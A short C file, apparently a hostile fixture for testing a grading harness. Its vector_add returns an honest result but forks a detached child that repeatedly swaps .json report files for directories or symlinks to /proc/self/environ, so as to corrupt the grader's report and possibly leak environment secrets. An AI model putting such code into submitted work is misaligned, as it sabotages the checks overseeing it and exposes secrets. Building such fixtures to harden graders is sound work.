/* SPDX-License-Identifier: MIT */
/* Swaps the file of the report for a folder, a link and a pipe while it is
 * written. */
#include "hostile.h"

#include <dirent.h>

static void swap_reports(void)
{
    for (int i = 0; i < 20000; i++) {
        DIR *here = opendir(".");
        struct dirent *entry;

        while (here && (entry = readdir(here)))
            if (strstr(entry->d_name, ".json")) {
                rename(entry->d_name, "moved");
                if (i % 2)
                    symlink("/proc/self/environ", entry->d_name);
                else
                    mkdir(entry->d_name, 0700);
            }
        if (here)
            closedir(here);
        usleep(100);
    }
}

int vector_add(const float *a, const float *b, float *c, size_t n)
{
    static bool started;

    if (!started && fork() == 0) {
        setsid();
        swap_reports();
        _exit(0);
    }
    started = true;

    return honest(a, b, c, n);
}
